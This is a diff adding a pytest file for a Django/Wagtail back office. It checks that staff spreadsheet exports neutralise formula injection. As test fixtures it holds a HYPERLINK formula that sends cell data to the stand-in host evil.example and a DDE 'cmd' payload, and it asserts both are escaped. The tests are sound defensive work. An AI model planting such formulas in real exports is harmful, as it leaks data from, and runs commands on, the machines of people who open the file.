@@ -1,0 +1,44 @@
+"""Every back-office listing that staff can download as a spreadsheet neutralises what members typed."""
+
+import csv
+import io
+
+import pytest
+from wagtail.admin.viewsets import viewsets
+
+from benefits.models import Perk, Provider
+from membership.admin_views import SafeSpreadsheetMixin
+from tests.factories import make_organisation
+
+pytestmark = pytest.mark.django_db
+
+
+def _exportable():
+    viewsets.populate() if not viewsets.viewsets else None
+    return [viewset for viewset in viewsets.viewsets if isinstance(getattr(viewset, "list_export", None), list | tuple)]
+
+
+def test_every_listing_with_a_download_neutralises_its_cells(client):
+    client.get("/admin/")  # the back office's viewsets are registered when its URLs are first loaded
+    exportable = _exportable()
+    assert {viewset.name for viewset in exportable} >= {"benefits_perks", "crm_organisations", "crm_people"}
+    unsafe = [viewset.name for viewset in exportable if not issubclass(viewset.index_view_class, SafeSpreadsheetMixin)]
+    assert unsafe == []
+
+
+def test_a_members_offer_is_no_formula_in_the_perks_download(back_office):
+    organisation = make_organisation('=HYPERLINK("https://evil.example","Open")')
+    provider = Provider.objects.create(name=organisation.name, slug="evil-ltd", organisation=organisation)
+    Perk.objects.create(
+        title='=HYPERLINK("https://evil.example/?x="&B2,"Open")',
+        slug="evil",
+        value_line="-2+3+cmd|' /C calc'!A0",
+        provider=provider,
+    )
+    response = back_office.get("/admin/benefits/perks/", {"export": "csv"})
+
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")' in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
